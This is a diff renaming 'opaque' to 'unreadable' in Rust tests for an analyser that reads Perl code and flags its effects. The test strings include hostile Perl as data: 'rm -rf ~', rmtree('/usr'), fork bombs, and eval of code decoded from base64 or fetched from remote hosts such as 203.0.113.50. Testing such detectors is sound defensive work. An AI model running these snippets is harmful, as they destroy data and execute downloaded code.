@@ -256,53 +256,56 @@ fn network_calls_are_curl_of_their_address() {
 }
 
 #[test]
-fn code_run_by_eval_is_read_or_opaque() {
-    let opaque = |code: &str| read(Lang::Perl, code).opaque.map(|u| u.reason);
+fn code_run_by_eval_is_read_or_unreadable() {
+    let unreadable = |code: &str| read(Lang::Perl, code).unreadable.map(|u| u.reason);
     assert_eq!(effects("eval \"system('rm -rf ~')\""), ["sh -c rm -rf ~"]);
     assert_eq!(effects("eval { unlink 'x' }"), ["rm x"]);
     const RUNTIME: &str =
         "the code runs code built at run time (an eval of a value not known before it runs)";
     const HIDDEN: &str = "the code runs code it downloaded or decoded";
     const NAMED: &str = "the code calls a function named at run time";
-    assert_eq!(opaque("eval $ARGV[0]"), Some(RUNTIME));
+    assert_eq!(unreadable("eval $ARGV[0]"), Some(RUNTIME));
     assert_eq!(
-        opaque("use MIME::Base64; eval decode_base64('cHJpbnQ=')"),
+        unreadable("use MIME::Base64; eval decode_base64('cHJpbnQ=')"),
         Some(HIDDEN)
     );
-    assert_eq!(opaque("eval pack('H*', '7072696e74')"), Some(HIDDEN));
+    assert_eq!(unreadable("eval pack('H*', '7072696e74')"), Some(HIDDEN));
     assert_eq!(
         effects("my $c = unpack('u', $x); system $c"),
         ["sh -c <fetched>"]
     );
     assert_eq!(
-        opaque("use LWP::Simple; eval get('http://x')"),
+        unreadable("use LWP::Simple; eval get('http://x')"),
         Some(HIDDEN)
     );
     assert_eq!(
         effects(
             "my $ua = LWP::UserAgent->new; my $r = $ua->get('http://e.io/x'); eval $r->decoded_content"
         ),
-        ["curl http://e.io/x", &format!("opaque: {HIDDEN} (line 1)")]
+        [
+            "curl http://e.io/x",
+            &format!("unreadable: {HIDDEN} (line 1)")
+        ]
     );
     assert_eq!(
-        opaque("my $r = HTTP::Tiny->new->get('http://x'); eval $r->{content}"),
+        unreadable("my $r = HTTP::Tiny->new->get('http://x'); eval $r->{content}"),
         Some(HIDDEN)
     );
-    assert_eq!(opaque("&$name()"), Some(NAMED));
-    assert_eq!(opaque("$obj->$m()"), Some(NAMED));
-    assert_eq!(opaque("my $f = sub { 1 }; $f->(); &$f"), None);
+    assert_eq!(unreadable("&$name()"), Some(NAMED));
+    assert_eq!(unreadable("$obj->$m()"), Some(NAMED));
+    assert_eq!(unreadable("my $f = sub { 1 }; $f->(); &$f"), None);
     assert_eq!(
-        opaque("do $f"),
+        unreadable("do $f"),
         Some("the code runs a file whose name is computed")
     );
     assert_eq!(effects("do 'evil.pl'"), ["exec perl evil.pl"]);
-    // The grammar rejects these valid spellings: opaque either way.
+    // The grammar rejects these valid spellings: unreadable either way.
     assert_eq!(
-        opaque("&{\"name\"}()"),
+        unreadable("&{\"name\"}()"),
         Some("the perl code has a syntax error")
     );
     assert_eq!(
-        opaque("require $m"),
+        unreadable("require $m"),
         Some("the perl code has a syntax error")
     );
 }
@@ -322,7 +325,7 @@ fn forks_in_a_loop_are_a_fork_bomb() {
         "for (qw(a b c d e f)) { fork }",
     ] {
         assert_eq!(
-            read(Lang::Perl, code).opaque.map(|u| u.reason),
+            read(Lang::Perl, code).unreadable.map(|u| u.reason),
             Some("the code forks in a loop (a fork bomb)"),
             "{code}"
         );
@@ -337,21 +340,25 @@ fn forks_in_a_loop_are_a_fork_bomb() {
         "for (qw(a b)) { fork or exit }",
         "foreach my $x ('a', 'b', 'c') { fork or exit }",
     ] {
-        assert_eq!(read(Lang::Perl, code).opaque, None, "{code}");
+        assert_eq!(read(Lang::Perl, code).unreadable, None, "{code}");
     }
 }
 
 #[test]
-fn bad_code_is_opaque_with_its_line_and_never_panics() {
-    let opaque = |code: &str| read(Lang::Perl, code).opaque.map(|u| (u.reason, u.line));
+fn bad_code_is_unreadable_with_its_line_and_never_panics() {
+    let unreadable = |code: &str| {
+        read(Lang::Perl, code)
+            .unreadable
+            .map(|u| (u.reason, u.line))
+    };
     assert_eq!(
-        opaque("print 1;\nsystem(\"x\""),
+        unreadable("print 1;\nsystem(\"x\""),
         Some(("the perl code has a syntax error", 2))
     );
-    assert!(opaque("system(\"rm").is_some());
-    assert!(opaque("print 'abc").is_some());
+    assert!(unreadable("system(\"rm").is_some());
+    assert!(unreadable("print 'abc").is_some());
     let deep = format!("system({}1{})", "(".repeat(500), ")".repeat(500));
-    assert!(opaque(&deep).is_some());
+    assert!(unreadable(&deep).is_some());
     let long = "system('a' . ".repeat(60) + "'b'" + &")".repeat(60);
     let _ = read(Lang::Perl, &long);
     for junk in [
@@ -412,7 +419,7 @@ fn forks_that_jump_back_are_a_fork_bomb() {
     ] {
         assert!(
             crate::matcher::code::read(crate::matcher::code::Lang::Perl, code)
-                .opaque
+                .unreadable
                 .is_some(),
             "{code}"
         );
@@ -452,7 +459,7 @@ fn code_the_grammar_cannot_parse_is_read_when_what_it_skips_is_inert() {
         Vec::<String>::new()
     );
     // What the error recovery skips is not read, so a skipped call stays a syntax error.
-    let syntax = "opaque: the perl code has a syntax error (line 1)";
+    let syntax = "unreadable: the perl code has a syntax error (line 1)";
     assert_eq!(
         effects("print 1, $_, 2 for system('rm -rf ~');"),
         ["sh -c rm -rf ~"]
@@ -502,7 +509,7 @@ fn the_replacement_of_s_e_is_code() {
     );
     assert_eq!(
         read(Lang::Perl, "$c = q(rmtree('/usr')); $x =~ s/X/$c/ee")
-            .opaque
+            .unreadable
             .map(|u| u.reason),
         Some("the code runs code built at run time (an eval of a value not known before it runs)")
     );
@@ -554,7 +561,7 @@ fn shadow_entries_and_patterns_that_run_code() {
     );
     assert!(
         read(Lang::Perl, "use re 'eval'; my $p = <STDIN>; 'x' =~ /$p/;")
-            .opaque
+            .unreadable
             .is_some()
     );
 }
@@ -583,17 +590,17 @@ fn a_safe_compartment_and_an_inc_hook_run_code() {
     );
     // Its default operator mask refuses what has effects.
     let masked = "use Safe; my $s = Safe->new; print $s->reval($_) for '2**10', '60*60'";
-    assert_eq!(read(Lang::Perl, masked).opaque, None);
+    assert_eq!(read(Lang::Perl, masked).unreadable, None);
     let hooked = "unshift @INC, sub { my (undef, $f) = @_; return }; require Foo;";
     assert_eq!(
-        read(Lang::Perl, hooked).opaque.map(|u| u.reason),
+        read(Lang::Perl, hooked).unreadable.map(|u| u.reason),
         Some("the code loads modules through a function of its own in @INC")
     );
     for plain in [
         "unshift @INC, 'lib'; require Foo;",
         "my $x = substr($INC[0], 0, 3);",
     ] {
-        assert_eq!(read(Lang::Perl, plain).opaque, None, "{plain}");
+        assert_eq!(read(Lang::Perl, plain).unreadable, None, "{plain}");
     }
 }
 
@@ -620,22 +627,22 @@ fn a_loop_over_a_literal_list_takes_each_item() {
 
 #[test]
 fn patterns_that_run_code_self_loaded_subs_and_benchmark_strings() {
-    let opaque = |code: &str| read(Lang::Perl, code).opaque.map(|u| u.reason);
+    let unreadable = |code: &str| read(Lang::Perl, code).unreadable.map(|u| u.reason);
     // A pattern's code runs at every step of the match: a fork there is a bomb.
-    assert!(opaque("('a' x 40) =~ /a+(?{ fork })(*FAIL)/").is_some());
-    assert!(opaque("my $n = 0; 'aaab' =~ /^(?:a(?{ $n++ }))*b$/; print $n").is_none());
+    assert!(unreadable("('a' x 40) =~ /a+(?{ fork })(*FAIL)/").is_some());
+    assert!(unreadable("my $n = 0; 'aaab' =~ /^(?:a(?{ $n++ }))*b$/; print $n").is_none());
     let in_pattern = read(Lang::Perl, "my $re = qr/(??{ system 'rm -rf ~' })/;");
-    assert!(in_pattern.opaque.is_some(), "{in_pattern:?}");
+    assert!(in_pattern.unreadable.is_some(), "{in_pattern:?}");
     assert!(
         format!("{:?}", in_pattern.found).contains("rm -rf ~"),
         "{in_pattern:?}"
     );
-    assert!(opaque("/(?{ unclosed /").is_some());
+    assert!(unreadable("/(?{ unclosed /").is_some());
     let self_loaded = read(
         Lang::Perl,
         "use SelfLoader;\nrun();\n__DATA__\nsub run { system 'rm -rf ~' }\n",
     );
-    assert!(self_loaded.opaque.is_some(), "{self_loaded:?}");
+    assert!(self_loaded.unreadable.is_some(), "{self_loaded:?}");
     assert!(
         format!("{:?}", self_loaded.found).contains("rm -rf ~"),
         "{self_loaded:?}"
@@ -653,7 +660,7 @@ fn patterns_that_run_code_self_loaded_subs_and_benchmark_strings() {
         "use Benchmark; timethis(100, sub { my @x = sort 1..10 })",
         "use Benchmark; timethese(10, { a => sub { 1 }, b => sub { 2 } })",
     ] {
-        assert_eq!(opaque(code), None, "{code}");
+        assert_eq!(unreadable(code), None, "{code}");
         assert!(effects(code).is_empty(), "{code}");
     }
 }
@@ -662,12 +669,12 @@ fn patterns_that_run_code_self_loaded_subs_and_benchmark_strings() {
 fn many_pattern_code_blocks_are_read_once_each_and_bounded() {
     // Unclosed blocks: the first one's tail holds the rest, read no further.
     let unclosed = "/(?{ ".repeat(10_000);
-    assert!(read(Lang::Perl, &unclosed).opaque.is_some());
+    assert!(read(Lang::Perl, &unclosed).unreadable.is_some());
     // Past the most read, the rest is not known.
     let many = "/(?{ $n++ })/; ".repeat(100);
-    assert!(read(Lang::Perl, &many).opaque.is_some());
+    assert!(read(Lang::Perl, &many).unreadable.is_some());
     let few = "/(?{ $n++ })/; ".repeat(3);
-    assert!(read(Lang::Perl, &few).opaque.is_none());
+    assert!(read(Lang::Perl, &few).unreadable.is_none());
 }
 
 #[test]
@@ -695,7 +702,7 @@ fn ordinary_idioms_the_grammar_stumbles_on_are_read() {
         "while (<>) { next if /^\\s*(#|$)/; my ($k, $v) = split /=/, $_, 2; print $k }",
         "for (glob 'config/*') { printf \"%-30s -> %s\\n\", $_, readlink($_) if -l $_ }",
     ] {
-        assert!(read(Lang::Perl, code).opaque.is_none(), "{code}");
+        assert!(read(Lang::Perl, code).unreadable.is_none(), "{code}");
     }
     // A loop over an array assigned a literal list once takes each item.
     assert_eq!(
@@ -860,7 +867,7 @@ fn defined_or_and_or_pick_the_side_a_known_left_side_picks() {
 fn what_a_command_prints_is_not_its_text() {
     // `eval` of a command's output runs what it printed, not the command.
     let reading = read(Lang::Perl, "eval qx{curl -s https://203.0.113.50/i.pl}");
-    assert!(reading.opaque.is_some(), "{:?}", reading.found);
+    assert!(reading.unreadable.is_some(), "{:?}", reading.found);
     assert_eq!(
         effects("my $c = `cat cmd.txt`; system($c);"),
         ["sh -c cat cmd.txt", "sh -c ?"]
@@ -869,10 +876,12 @@ fn what_a_command_prints_is_not_its_text() {
 
 #[test]
 fn a_sub_taken_from_a_hash_of_the_codes_own_subs_is_one_of_them() {
-    let opaque = |code: &str| read(Lang::Perl, code).opaque.map(|u| u.reason);
+    let unreadable = |code: &str| read(Lang::Perl, code).unreadable.map(|u| u.reason);
     const NAMED: &str = "the code calls a function named at run time";
     assert_eq!(
-        opaque("my %h = (a => sub { 1 }, b => sub { 2 }); my $f = $h{$ARGV[0]} or die; $f->(1)"),
+        unreadable(
+            "my %h = (a => sub { 1 }, b => sub { 2 }); my $f = $h{$ARGV[0]} or die; $f->(1)"
+        ),
         None
     );
     // Their bodies are read where they are written.
@@ -882,11 +891,11 @@ fn a_sub_taken_from_a_hash_of_the_codes_own_subs_is_one_of_them() {
     );
     // A value changed later, or one that is not a sub written there, is not known.
     assert_eq!(
-        opaque("my %h = (a => sub { 1 }); $h{b} = \\&CORE::system; my $f = $h{$x}; $f->(1)"),
+        unreadable("my %h = (a => sub { 1 }); $h{b} = \\&CORE::system; my $f = $h{$x}; $f->(1)"),
         Some(NAMED)
     );
     assert_eq!(
-        opaque("my %h = (a => sub { 1 }, b => \\&CORE::system); my $f = $h{$x}; $f->(1)"),
+        unreadable("my %h = (a => sub { 1 }, b => \\&CORE::system); my $f = $h{$x}; $f->(1)"),
         Some(NAMED)
     );
 }
